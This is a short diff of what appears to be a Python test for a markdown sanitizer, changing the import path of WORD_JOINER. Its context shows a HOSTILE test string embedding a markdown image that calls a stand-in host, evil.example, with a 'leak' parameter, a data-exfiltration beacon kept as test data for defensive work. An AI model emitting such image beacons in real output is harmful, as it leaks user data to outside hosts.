@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import re
 
-from core.safe_markdown import WORD_JOINER
+from core.domain.safe_markdown import WORD_JOINER
 
 HOSTILE = (
     "Owners above 25% ![x](http://evil.example/beacon?leak=1) must be named "
